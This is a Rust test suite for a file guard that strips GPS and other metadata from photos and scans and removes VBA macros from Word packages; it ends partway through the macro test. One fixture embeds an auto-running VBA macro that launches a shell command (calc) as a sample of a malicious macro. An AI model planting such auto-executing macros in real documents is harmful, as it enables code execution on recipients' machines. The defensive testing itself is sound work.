//! Promise pinned here (docs/guard.md, "Disarm: image metadata"): under
//! `disarm = "strip"` a photograph leaves without its EXIF block (camera,
//! time, GPS position), XMP, IPTC and comments, and is still the same
//! picture; under `"refuse"` it does not leave; where the guard cannot
//! rewrite (inside an archive) it is refused, never passed with its
//! position. A TIFF is stripped in place (`ppm2tiff` makes it, `tiffinfo`
//! decodes both to compare pixels). The images are made by real tools the way an office makes
//! them: `cjpeg` encodes, `exiftool` writes the metadata and reads the
//! result back, `djpeg` decodes both to compare pixels.

mod common;

use common::{assert_rejected, count, entry, skip, zip};
use ferry_guard::{Guard, Profile, Report, Verdict};
use std::path::Path;
use std::process::Command;

/// The tools this suite drives, or why not.
fn tools(test: &str) -> bool {
    for t in ["cjpeg", "djpeg", "exiftool"] {
        let found = Command::new(t)
            .arg(if t == "exiftool" { "-ver" } else { "-version" })
            .output()
            .is_ok();
        if !found {
            skip(
                test,
                &format!("`{t}` not found (Debian: libjpeg-turbo-progs, libimage-exiftool-perl)"),
            );
            return false;
        }
    }
    true
}

fn run(cmd: &mut Command) -> Vec<u8> {
    let out = cmd.output().expect("tool runs");
    assert!(
        out.status.success(),
        "{cmd:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out.stdout
}

/// A 96x64 colour gradient as a binary PPM.
fn ppm() -> Vec<u8> {
    let (w, h) = (96u32, 64u32);
    let mut v = format!("P6\n{w} {h}\n255\n").into_bytes();
    for y in 0..h {
        for x in 0..w {
            v.extend_from_slice(&[(x * 2) as u8, (y * 3) as u8, ((x + y) % 256) as u8]);
        }
    }
    v
}

/// What a phone writes: EXIF with a GPS position (Nanchang), the camera
/// and time; an XMP creator; an IPTC by-line; a JPEG comment.
const PHOTO_TAGS: &[&str] = &[
    "-GPSLatitude=28.6829",
    "-GPSLatitudeRef=N",
    "-GPSLongitude=115.8582",
    "-GPSLongitudeRef=E",
    "-Make=Phone",
    "-Model=Survey 3",
    "-DateTimeOriginal=2026:11:02 09:41:07",
    "-XMP-dc:Creator=Surveyor Wang",
    "-IPTC:By-line=Surveyor Wang",
    "-Comment=parcel 36-0102-118, owner at home",
];

/// A real photograph: `cjpeg` output with `tags` written by `exiftool`.
fn photo(dir: &Path, tags: &[&str]) -> Vec<u8> {
    let raw = dir.join("raw.ppm");
    std::fs::write(&raw, ppm()).expect("write ppm");
    let jpg = dir.join("photo.jpg");
    let data = run(Command::new("cjpeg").args(["-quality", "90"]).arg(&raw));
    std::fs::write(&jpg, data).expect("write jpeg");
    if !tags.is_empty() {
        run(Command::new("exiftool")
            .args(["-q", "-overwrite_original"])
            .args(tags)
            .arg(&jpg));
    }
    std::fs::read(&jpg).expect("read jpeg")
}

/// What `exiftool` reads from `data`: every tag, by group and name.
fn tags_of(dir: &Path, data: &[u8], name: &str) -> serde_json::Value {
    let f = dir.join(name);
    std::fs::write(&f, data).expect("write");
    let out = run(Command::new("exiftool").args(["-j", "-G", "-a"]).arg(&f));
    let v: serde_json::Value = serde_json::from_slice(&out).expect("exiftool json");
    v[0].clone()
}

fn has_tag(tags: &serde_json::Value, needle: &str) -> bool {
    tags.as_object()
        .expect("object")
        .keys()
        .any(|k| k.contains(needle))
}

/// The pixels `djpeg` decodes.
fn pixels(dir: &Path, data: &[u8]) -> Vec<u8> {
    let f = dir.join("decode.jpg");
    std::fs::write(&f, data).expect("write");
    run(Command::new("djpeg").args(["-pnm"]).arg(&f))
}

fn guard(disarm: &str) -> Guard {
    let s = serde_json::json!({
        "description": "photographs of parcels for the portal",
        "allowed_types": ["image/*", "text/*"],
        "archives": { "allowed": true, "formats": ["zip"] },
        "disarm": disarm,
    });
    Guard::new(Profile::from_settings("photos", &s, &common::lists).expect("profile"))
}

fn sha256(data: &[u8]) -> String {
    hex::encode(ring::digest::digest(&ring::digest::SHA256, data).as_ref())
}

fn inspect(g: &Guard, data: &[u8], name: &str, ty: &str) -> (Report, Option<Vec<u8>>) {
    g.inspect_bytes(data, name, ty).expect("no machine error")
}

#[test]
fn a_photos_gps_position_and_metadata_are_stripped_and_the_picture_is_unchanged() {
    const T: &str = "a_photos_gps_position_and_metadata_are_stripped_and_the_picture_is_unchanged";
    if !tools(T) {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let original = photo(dir.path(), PHOTO_TAGS);
    // The attack is real: the tools see the position before.
    let before = tags_of(dir.path(), &original, "before.jpg");
    for t in ["GPSLatitude", "Model", "Creator", "By-line", "Comment"] {
        assert!(has_tag(&before, t), "exiftool should see {t}: {before}");
    }

    let g = guard("strip");
    let (r, out) = inspect(&g, &original, "parcel.jpg", "image/jpeg");
    assert_eq!(r.verdict, Verdict::Masked, "{:#?}", r.reasons);
    assert_eq!(count(&r, "image_gps"), 1, "{:#?}", r.findings);
    assert!(count(&r, "image_metadata") >= 2, "{:#?}", r.findings);
    assert!(
        r.reasons.iter().any(|x| x.contains("stripped")),
        "{:#?}",
        r.reasons
    );
    let gps = r
        .findings
        .iter()
        .find(|f| f.detector == "image_gps")
        .expect("gps finding");
    assert_eq!(gps.location.field.as_deref(), Some("APP1 Exif"));
    assert!(gps.location.byte_offset.is_some());
    let out = out.expect("stripped copy");
    assert!(out.len() < original.len());
    assert_eq!(r.digest_after.as_deref(), Some(sha256(&out).as_str()));
    assert_eq!(r.digest_before.as_deref(), Some(sha256(&original).as_str()));

    // No reader finds the metadata any more; the picture is the same.
    let after = tags_of(dir.path(), &out, "after.jpg");
    for t in [
        "GPS",
        "Make",
        "Model",
        "DateTimeOriginal",
        "Creator",
        "By-line",
        "Comment",
        "XMP",
        "IPTC",
    ] {
        assert!(
            !has_tag(&after, t),
            "{t} left in the stripped photo: {after}"
        );
    }
    assert_eq!(pixels(dir.path(), &original), pixels(dir.path(), &out));

    // The report names kinds and places, never the content.
    let json = serde_json::to_string(&r).expect("json");
    for secret in ["Wang", "Survey 3", "36-0102", "28.68", "115.85"] {
        assert!(!json.contains(secret), "{secret} in the report");
    }

    // Stripping is idempotent: the egress side's re-inspection of the
    // stripped photo finds nothing and passes it unchanged.
    let (again, copy) = inspect(&g, &out, "parcel.jpg", "image/jpeg");
    assert_eq!(again.verdict, Verdict::Pass, "{:#?}", again.reasons);
    assert_eq!(again.findings_total, 0);
    assert!(copy.is_none());
}

#[test]
fn a_photo_to_strip_under_a_profile_that_holds_images_is_refused_not_held() {
    const T: &str = "a_photo_to_strip_under_a_profile_that_holds_images_is_refused_not_held";
    if !tools(T) {
        return;
    }
    // Dirty words make every image uninspectable content, held for a
    // reviewer; a held package goes on as given, so its GPS would too.
    let s = serde_json::json!({
        "allowed_types": ["image/*"],
        "dirty_words": { "lists": [common::LIST_PATH], "action": "reject" },
        "disarm": "strip",
    });
    let g = Guard::new(Profile::from_settings("photos", &s, &common::lists).expect("profile"));
    let dir = tempfile::tempdir().expect("tempdir");
    let (r, out) = inspect(
        &g,
        &photo(dir.path(), PHOTO_TAGS),
        "parcel.jpg",
        "image/jpeg",
    );
    assert_rejected(&r, "also held for review");
    assert!(out.is_none());
    // A photo with nothing to strip is held for review as before.
    let (r, out) = inspect(&g, &photo(dir.path(), &[]), "parcel.jpg", "image/jpeg");
    assert_eq!(r.verdict, Verdict::Review, "{:#?}", r.reasons);
    assert!(out.is_none());
}

#[test]
fn a_clean_photo_passes_unchanged() {
    const T: &str = "a_clean_photo_passes_unchanged";
    if !tools(T) {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let clean = photo(dir.path(), &[]);
    let (r, out) = inspect(&guard("strip"), &clean, "parcel.jpg", "image/jpeg");
    assert_eq!(r.verdict, Verdict::Pass, "{:#?}", r.reasons);
    assert_eq!(r.findings_total, 0);
    assert!(out.is_none());
    assert_eq!(r.digest_after, r.digest_before);
}

#[test]
fn refuse_mode_refuses_a_photo_with_a_position_and_says_so() {
    const T: &str = "refuse_mode_refuses_a_photo_with_a_position_and_says_so";
    if !tools(T) {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let original = photo(dir.path(), PHOTO_TAGS);
    let (r, out) = inspect(&guard("refuse"), &original, "parcel.jpg", "image/jpeg");
    assert_rejected(&r, "GPS position");
    assert!(out.is_none());
    assert_eq!(r.digest_after, None);
}

#[test]
fn a_photo_inside_an_archive_is_refused_not_passed_with_its_position() {
    const T: &str = "a_photo_inside_an_archive_is_refused_not_passed_with_its_position";
    if !tools(T) {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let original = photo(dir.path(), PHOTO_TAGS);
    let z = zip(&[
        entry("notes.txt", b"site visit\n"),
        entry("parcel.jpg", &original),
    ]);
    let (r, out) = inspect(&guard("strip"), &z, "visit.zip", "application/zip");
    assert_rejected(&r, "does not rewrite archives");
    assert_eq!(count(&r, "image_gps"), 1, "{:#?}", r.findings);
    assert!(out.is_none());
    // A clean photo in the same archive passes.
    let clean = photo(dir.path(), &[]);
    let z = zip(&[entry("parcel.jpg", &clean)]);
    let (r, _) = inspect(&guard("strip"), &z, "visit.zip", "application/zip");
    assert_eq!(r.verdict, Verdict::Pass, "{:#?}", r.reasons);
}

/// A real PNG (zlib-compressed scanlines), with `exiftool`'s metadata.
fn png_photo(dir: &Path) -> Vec<u8> {
    fn chunk(out: &mut Vec<u8>, ty: &[u8; 4], data: &[u8]) {
        out.extend_from_slice(&(data.len() as u32).to_be_bytes());
        out.extend_from_slice(ty);
        out.extend_from_slice(data);
        let mut c = crc32fast::Hasher::new();
        c.update(ty);
        c.update(data);
        out.extend_from_slice(&c.finalize().to_be_bytes());
    }
    let (w, h) = (32u32, 16u32);
    let mut raw = Vec::new();
    for y in 0..h {
        raw.push(0);
        for x in 0..w {
            raw.extend_from_slice(&[(x * 8) as u8, (y * 16) as u8, 128]);
        }
    }
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut z, &raw).expect("deflate");
    let idat = z.finish().expect("deflate");
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut ihdr = w.to_be_bytes().to_vec();
    ihdr.extend_from_slice(&h.to_be_bytes());
    ihdr.extend_from_slice(&[8, 2, 0, 0, 0]);
    chunk(&mut png, b"IHDR", &ihdr);
    chunk(&mut png, b"IDAT", &idat);
    chunk(&mut png, b"IEND", b"");
    let f = dir.join("map.png");
    std::fs::write(&f, &png).expect("write png");
    run(Command::new("exiftool")
        .args(["-q", "-overwrite_original"])
        .args([
            "-GPSLatitude=28.6829",
            "-GPSLatitudeRef=N",
            "-GPSLongitude=115.8582",
            "-GPSLongitudeRef=E",
            "-XMP-dc:Creator=Surveyor Wang",
            "-PNG:Comment=owner at home",
        ])
        .arg(&f));
    std::fs::read(&f).expect("read png")
}

/// The chunks of a PNG, in order, as (type, bytes with header and CRC).
fn chunks(png: &[u8]) -> Vec<(String, Vec<u8>)> {
    let mut out = Vec::new();
    let mut at = 8;
    while at + 8 <= png.len() {
        let len = u32::from_be_bytes([png[at], png[at + 1], png[at + 2], png[at + 3]]) as usize;
        let ty = String::from_utf8_lossy(&png[at + 4..at + 8]).into_owned();
        let end = at + 12 + len;
        out.push((ty, png[at..end].to_vec()));
        at = end;
    }
    out
}

#[test]
fn a_png_keeps_its_picture_chunks_and_loses_its_metadata() {
    const T: &str = "a_png_keeps_its_picture_chunks_and_loses_its_metadata";
    if !tools(T) {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let original = png_photo(dir.path());
    let before = tags_of(dir.path(), &original, "before.png");
    assert!(has_tag(&before, "GPSLatitude"), "{before}");
    assert!(has_tag(&before, "Creator"), "{before}");

    let (r, out) = inspect(&guard("strip"), &original, "map.png", "image/png");
    assert_eq!(r.verdict, Verdict::Masked, "{:#?}", r.reasons);
    assert!(count(&r, "image_gps") >= 1, "{:#?}", r.findings);
    let out = out.expect("stripped copy");
    let after = tags_of(dir.path(), &out, "after.png");
    for t in ["GPS", "Creator", "Comment", "XMP"] {
        assert!(!has_tag(&after, t), "{t} left in the stripped PNG: {after}");
    }
    // What is left is exactly the picture's chunks of the original.
    let kept: Vec<_> = chunks(&original)
        .into_iter()
        .filter(|(t, _)| ["IHDR", "IDAT", "IEND"].contains(&t.as_str()))
        .collect();
    assert_eq!(chunks(&out), kept);
}

/// libtiff's tools (Debian: libtiff-tools), or why not.
fn tiff_tools(test: &str) -> bool {
    if !tools(test) {
        return false;
    }
    for t in ["ppm2tiff", "tiffinfo", "tiffcp"] {
        if Command::new(t).arg("-h").output().is_err() {
            skip(test, &format!("`{t}` not found (Debian: libtiff-tools)"));
            return false;
        }
    }
    true
}

/// A real TIFF (`ppm2tiff`, LZW) with `tags` written by `exiftool`.
fn tiff(dir: &Path, name: &str, tags: &[&str]) -> Vec<u8> {
    let raw = dir.join("raw.ppm");
    std::fs::write(&raw, ppm()).expect("write ppm");
    let f = dir.join(name);
    run(Command::new("ppm2tiff")
        .args(["-c", "lzw"])
        .arg(&raw)
        .arg(&f));
    if !tags.is_empty() {
        run(Command::new("exiftool")
            .args(["-q", "-overwrite_original"])
            .args(tags)
            .arg(&f));
    }
    std::fs::read(&f).expect("read tiff")
}

/// What libtiff decodes: every directory's size and every strip's
/// pixels (`tiffinfo -D -d`, decompressed), without the tag listing.
fn tiff_pixels(dir: &Path, data: &[u8]) -> String {
    let f = dir.join("decode.tif");
    std::fs::write(&f, data).expect("write");
    let out = Command::new("tiffinfo")
        .args(["-D", "-d"])
        .arg(&f)
        .output()
        .expect("tiffinfo runs");
    assert!(
        out.status.success() && out.stderr.is_empty(),
        "tiffinfo: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let text = String::from_utf8_lossy(&out.stdout);
    text.lines()
        .filter(|l| {
            l.starts_with("Strip ")
                || l.starts_with(' ') && l.trim().split(' ').all(|h| h.len() == 2)
                || l.contains("Image Width")
        })
        .collect::<Vec<_>>()
        .join("\n")
}

/// What a scanner and a GIS export write into a TIFF: a GPS position,
/// the device, time, author, a description, XMP and IPTC.
const TIFF_TAGS: &[&str] = &[
    "-GPSLatitude=28.6829",
    "-GPSLatitudeRef=N",
    "-GPSLongitude=115.8582",
    "-GPSLongitudeRef=E",
    "-Make=Scanner",
    "-Model=Survey 3",
    "-DateTimeOriginal=2026:11:02 09:41:07",
    "-Artist=Surveyor Wang",
    "-ImageDescription=parcel 36-0102-118",
    "-XMP-dc:Creator=Surveyor Wang",
    "-IPTC:By-line=Surveyor Wang",
];

#[test]
fn a_tiffs_position_and_metadata_are_stripped_in_place_and_the_picture_is_unchanged() {
    const T: &str =
        "a_tiffs_position_and_metadata_are_stripped_in_place_and_the_picture_is_unchanged";
    if !tiff_tools(T) {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let original = tiff(dir.path(), "scan.tif", TIFF_TAGS);
    let before = tags_of(dir.path(), &original, "before.tif");
    for t in [
        "GPSLatitude",
        "Model",
        "Artist",
        "Creator",
        "By-line",
        "ImageDescription",
    ] {
        assert!(has_tag(&before, t), "exiftool should see {t}: {before}");
    }

    let g = guard("strip");
    let (r, out) = inspect(&g, &original, "scan.tif", "image/tiff");
    assert_eq!(r.verdict, Verdict::Masked, "{:#?}", r.reasons);
    assert_eq!(count(&r, "image_gps"), 1, "{:#?}", r.findings);
    assert!(count(&r, "image_metadata") >= 5, "{:#?}", r.findings);
    let gps = r
        .findings
        .iter()
        .find(|f| f.location.field.as_deref() == Some("IFD 0 tag 34853 GPSInfo"))
        .expect("the GPS directory is named");
    assert!(gps.location.byte_offset.is_some());
    let out = out.expect("stripped copy");
    assert_eq!(
        out.len(),
        original.len(),
        "stripped in place: nothing moves"
    );
    assert_eq!(r.digest_after.as_deref(), Some(sha256(&out).as_str()));

    let after = tags_of(dir.path(), &out, "after.tif");
    for t in [
        "GPS",
        "Make",
        "Model",
        "DateTime",
        "Artist",
        "Description",
        "Creator",
        "By-line",
        "XMP",
        "IPTC",
        "ExifIFD",
    ] {
        assert!(
            !has_tag(&after, t),
            "{t} left in the stripped TIFF: {after}"
        );
    }
    // Not even as bytes nothing points at any more.
    for secret in ["Surveyor Wang", "Survey 3", "36-0102", "Scanner"] {
        assert!(
            memchr::memmem::find(&out, secret.as_bytes()).is_none(),
            "{secret} left in the file"
        );
    }
    assert_eq!(
        tiff_pixels(dir.path(), &original),
        tiff_pixels(dir.path(), &out)
    );
    let json = serde_json::to_string(&r).expect("json");
    for secret in ["Wang", "Survey 3", "36-0102", "28.68", "115.85"] {
        assert!(!json.contains(secret), "{secret} in the report");
    }
    // The egress side's re-inspection finds nothing and passes it as is.
    let (again, copy) = inspect(&g, &out, "scan.tif", "image/tiff");
    assert_eq!(again.verdict, Verdict::Pass, "{:#?}", again.reasons);
    assert_eq!(again.findings_total, 0);
    assert!(copy.is_none());
}

#[test]
fn every_page_of_a_multi_page_tiff_is_stripped() {
    const T: &str = "every_page_of_a_multi_page_tiff_is_stripped";
    if !tiff_tools(T) {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    tiff(
        dir.path(),
        "p1.tif",
        &["-Artist=Page One Author", "-Make=Scanner"],
    );
    tiff(
        dir.path(),
        "p2.tif",
        &["-Artist=Page Two Author", "-Software=Scan 2"],
    );
    let multi = dir.path().join("multi.tif");
    run(Command::new("tiffcp")
        .arg(dir.path().join("p1.tif"))
        .arg(dir.path().join("p2.tif"))
        .arg(&multi));
    let original = std::fs::read(&multi).expect("read");
    for secret in ["Page One Author", "Page Two Author"] {
        assert!(memchr::memmem::find(&original, secret.as_bytes()).is_some());
    }
    let (r, out) = inspect(&guard("strip"), &original, "pages.tif", "image/tiff");
    assert_eq!(r.verdict, Verdict::Masked, "{:#?}", r.reasons);
    let fields: Vec<_> = r
        .findings
        .iter()
        .filter_map(|f| f.location.field.clone())
        .collect();
    assert!(
        fields.iter().any(|f| f.starts_with("IFD 0 tag 315")),
        "{fields:?}"
    );
    assert!(
        fields.iter().any(|f| f.starts_with("IFD 1 tag 315")),
        "{fields:?}"
    );
    let out = out.expect("stripped copy");
    for secret in ["Page One Author", "Page Two Author", "Scan 2"] {
        assert!(
            memchr::memmem::find(&out, secret.as_bytes()).is_none(),
            "{secret}"
        );
    }
    let pages = tiff_pixels(dir.path(), &out);
    assert_eq!(pages.matches("Image Width").count(), 2, "both pages kept");
    assert_eq!(tiff_pixels(dir.path(), &original), pages);
}

#[test]
fn a_tiff_with_metadata_is_refused_in_refuse_mode_and_inside_an_archive() {
    const T: &str = "a_tiff_with_metadata_is_refused_in_refuse_mode_and_inside_an_archive";
    if !tiff_tools(T) {
        return;
    }
    let dir = tempfile::tempdir().expect("tempdir");
    let tagged = tiff(dir.path(), "scan.tif", TIFF_TAGS);
    let (r, out) = inspect(&guard("refuse"), &tagged, "scan.tif", "image/tiff");
    assert_rejected(&r, "a GPS position (IFD 0 tag ");
    assert!(out.is_none());
    let z = zip(&[entry("scan.tif", &tagged)]);
    let (r, out) = inspect(&guard("strip"), &z, "scans.zip", "application/zip");
    assert_rejected(&r, "does not rewrite archives");
    assert!(count(&r, "image_gps") >= 1, "{:#?}", r.findings);
    assert!(out.is_none());
    // A TIFF without metadata passes in either place, unchanged.
    let clean = tiff(dir.path(), "clean.tif", &[]);
    let (r, out) = inspect(&guard("refuse"), &clean, "clean.tif", "image/tiff");
    assert_eq!(r.verdict, Verdict::Pass, "{:#?}", r.findings);
    assert!(out.is_none());
    let z = zip(&[entry("clean.tif", &clean)]);
    let (r, _) = inspect(&guard("strip"), &z, "scans.zip", "application/zip");
    assert_eq!(r.verdict, Verdict::Pass, "{:#?}", r.reasons);
}

#[test]
fn a_tiff_the_strip_cannot_keep_intact_is_refused_with_the_reason() {
    // A directory that points past the end of the file.
    let tiff = b"II*\0\x08\0\0\0\x01\0\0\x01\x03\0\x01\0\0\0\x04\0\0\0\0\0\0\0";
    let (r, out) = inspect(&guard("strip"), tiff, "scan.tif", "image/tiff");
    assert_rejected(&r, "TIFF: directory 0 has no complete strip or tile table");
    assert!(out.is_none());
}

#[test]
fn without_disarm_images_are_checked_as_before() {
    let s = serde_json::json!({ "allowed_types": ["image/*"] });
    let g = Guard::new(Profile::from_settings("plain", &s, &common::lists).expect("profile"));
    let png = common::png();
    let (r, out) = inspect(&g, &png, "a.png", "image/png");
    assert_eq!(r.verdict, Verdict::Pass, "{:#?}", r.reasons);
    assert!(out.is_none());
    // An unknown mode is a settings error that names the key.
    let bad = serde_json::json!({ "disarm": "scrub" });
    let e = Profile::from_settings("bad", &bad, &common::lists).expect_err("refused");
    assert!(e.to_string().contains("disarm"), "{e}");
}

mod hostile {
    //! Hostile images: any mutation of a tagged JPEG or PNG ends in a
    //! verdict, never a panic, and what is stripped passes a second
    //! inspection with nothing left to strip (the fuzz target
    //! `guard_inspect` runs the same profile on arbitrary bytes).
    use super::*;
    use proptest::prelude::*;

    fn seg(code: u8, payload: &[u8]) -> Vec<u8> {
        let mut v = vec![0xFF, code];
        v.extend_from_slice(&((payload.len() + 2) as u16).to_be_bytes());
        v.extend_from_slice(payload);
        v
    }

    fn tagged_jpeg() -> Vec<u8> {
        let mut v = vec![0xFF, 0xD8];
        v.extend(seg(0xE0, b"JFIF\0\x01\x01\0\0\x01\0\x01\0\0"));
        v.extend(seg(
            0xE1,
            b"Exif\0\0II*\0\x08\0\0\0\x01\0\x25\x88\x04\0\x01\0\0\0\x1a\0\0\0\0\0\0\0",
        ));
        v.extend(seg(0xFE, b"a comment"));
        v.extend(seg(0xDB, &[0; 65]));
        v.extend(seg(0xDA, &[1, 1, 0, 0, 63, 0]));
        v.extend_from_slice(&[1, 2, 0xFF, 0, 3, 0xFF, 0xD1, 4, 5, 0xFF, 0xD9]);
        v
    }

    fn tagged_png() -> Vec<u8> {
        let mut png = common::png();
        // Insert a text chunk after IHDR (8 + 25 bytes).
        let mut t = 9u32.to_be_bytes().to_vec();
        t.extend_from_slice(b"tEXtAuthor\0me");
        let mut c = crc32fast::Hasher::new();
        c.update(b"tEXtAuthor\0me");
        t.extend_from_slice(&c.finalize().to_be_bytes());
        png.splice(33..33, t);
        png
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 512, .. ProptestConfig::default() })]

        #[test]
        fn mutated_images_never_panic_and_stripped_ones_come_back_clean(
            png in any::<bool>(),
            edits in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>(), 0u8..3), 1..6),
        ) {
            let (mut data, name, ty) = if png {
                (tagged_png(), "a.png", "image/png")
            } else {
                (tagged_jpeg(), "a.jpg", "image/jpeg")
            };
            for (at, byte, how) in edits {
                if data.is_empty() {
                    break;
                }
                let i = at.index(data.len());
                match how {
                    0 => data[i] = byte,
                    1 => { data.remove(i); }
                    _ => data.insert(i, byte),
                }
            }
            let g = guard("strip");
            let (r, out) = g.inspect_bytes(&data, name, ty).expect("no machine error");
            if let Some(out) = out {
                prop_assert_eq!(r.verdict, Verdict::Masked);
                let (again, copy) = g.inspect_bytes(&out, name, ty).expect("no machine error");
                prop_assert_eq!(again.verdict, Verdict::Pass, "{:?}", again.reasons);
                prop_assert!(copy.is_none());
            }
        }
    }

    #[test]
    fn the_unmutated_samples_are_stripped() {
        let g = guard("strip");
        for (data, name, ty) in [
            (tagged_jpeg(), "a.jpg", "image/jpeg"),
            (tagged_png(), "a.png", "image/png"),
        ] {
            let (r, out) = g.inspect_bytes(&data, name, ty).expect("no machine error");
            assert_eq!(r.verdict, Verdict::Masked, "{name}: {:#?}", r.reasons);
            assert!(out.is_some());
        }
    }
}

mod office {
    //! Macros cut out of a macro-enabled Word document sent as the
    //! package (docs/guard.md, "Disarm"): the VBA project, its data and
    //! relationships go, the body becomes a plain `.docx` body, every
    //! other part is byte for byte what it was, and an independent zip
    //! reader (Python's `zipfile`) opens the result.
    use super::*;
    use common::ZipEntry;

    const DOCM: &str = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
    const CT: &[u8] = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/><Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/><Override PartName="/word/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"/></Types>"#;
    const RELS: &[u8] = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>"#;
    const DOC_RELS: &[u8] = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/><Relationship Id="rId2" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/></Relationships>"#;
    const VBA_RELS: &[u8] = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/wordVbaData" Target="vbaData.xml"/></Relationships>"#;
    const DOC: &[u8] = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Parcel survey, Xinjian district</w:t></w:r></w:p></w:body></w:document>"#;
    const STYLES: &[u8] = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>"#;
    const VBA_DATA: &[u8] = br#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>"#;

    /// An OLE compound file header and an `AutoOpen` macro's text, as a
    /// VBA project carries them.
    fn vba_project() -> Vec<u8> {
        let mut v = b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1".to_vec();
        v.extend_from_slice(&[0; 504]);
        v.extend_from_slice(b"Attribute VB_Name = \"ThisDocument\"\r\nSub AutoOpen()\r\n Shell \"cmd /c calc\"\r\nEnd Sub\r\n");
        v
    }

    fn docm() -> Vec<u8> {
        let vba = vba_project();
        let mut stored = entry("word/styles.xml", STYLES);
        stored.deflate = false;
        zip(&[
            entry("[Content_Types].xml", CT),
            entry("_rels/.rels", RELS),
            entry("word/document.xml", DOC),
            entry("word/_rels/document.xml.rels", DOC_RELS),
            stored,
            ZipEntry {
                name: b"word/vbaProject.bin",
                data: &vba,
                deflate: true,
                unix_mode: None,
            },
            entry("word/_rels/vbaProject.bin.rels", VBA_RELS),
            entry("word/vbaData.xml", VBA_DATA),
        ])
    }

    fn office_guard(disarm: &str) -> Guard {
        let s = serde_json::json!({
            "allowed_types": [DOCM, "text/*"],
            "disarm": disarm,
        });
        Guard::new(Profile::from_settings("import", &s, &common::lists).expect("profile"))
    }

    /// Every member's name and content, read by Python's `zipfile`
    /// (which also checks every CRC), or `None` without Python.
    fn python_read(dir: &Path, data: &[u8]) -> Option<serde_json::Value> {
        let f = dir.join("doc.docx");
        std::fs::write(&f, data).expect("write");
        let script = "import json,sys,zipfile\nz=zipfile.ZipFile(sys.argv[1])\nbad=z.testzip()\nassert bad is None, bad\nprint(json.dumps({n: z.read(n).decode('latin-1') for n in z.namelist()}))";
        let out = Command::new("python3")
            .arg("-c")
            .arg(script)
            .arg(&f)
            .output()
            .ok()?;
        assert!(
            out.status.success(),
            "{}",
            String::from_utf8_lossy(&out.stderr)
        );
        Some(serde_json::from_slice(&out.stdout).expect("json"))
    }

    #[test]
    fn a_macro_is_cut_out_of_a_word_document_and_the_rest_is_untouched() {
        let original = docm();
        let g = office_guard("strip");
        let (r, out) = g
            .inspect_bytes(&original, "survey.docx", DOCM)
            .expect("no machine error");
        assert_eq!(r.verdict, Verdict::Masked, "{:#?}", r.reasons);
        assert_eq!(count(&r, "office_macro"), 3, "{:#?}", r.findings);
        assert!(
            r.reasons.iter().any(|x| x.contains("stripped")),
            "{:#?}",
            r.reasons
        );
        let out = out.expect("stripped copy");
        assert_eq!(r.digest_after.as_deref(), Some(sha256(&out).as_str()));
        let json = serde_json::to_string(&r).expect("json");
        assert!(
            !json.contains("AutoOpen") && !json.contains("calc"),
            "{json}"
        );

        // The guard's own strict reader: the stripped document passes.
        let (again, copy) = g
            .inspect_bytes(&out, "survey.docx", DOCM)
            .expect("no machine error");
        assert_eq!(again.verdict, Verdict::Pass, "{:#?}", again.reasons);
        assert!(copy.is_none());
        assert!(!out.windows(8).any(|w| w == b"AutoOpen"));

        let dir = tempfile::tempdir().expect("tempdir");
        let Some(parts) = python_read(dir.path(), &out) else {
            skip(
                "a_macro_is_cut_out_of_a_word_document_and_the_rest_is_untouched",
                "python3 not found: the independent zip reader's check did not run",
            );
            return;
        };
        // Sorted: the map keeps the archive's order or sorts its keys,
        // depending on serde_json's `preserve_order` (yara-x turns it on).
        let mut names: Vec<&String> = parts.as_object().expect("object").keys().collect();
        names.sort();
        assert_eq!(
            names,
            [
                "[Content_Types].xml",
                "_rels/.rels",
                "word/_rels/document.xml.rels",
                "word/document.xml",
                "word/styles.xml"
            ],
        );
        let text = |n: &str| parts[n].as_str().expect("text").to_string();
        assert_eq!(text("word/document.xml").as_bytes(), DOC);
        assert_eq!(text("word/styles.xml").as_bytes(), STYLES);
        assert_eq!(text("_rels/.rels").as_bytes(), RELS);
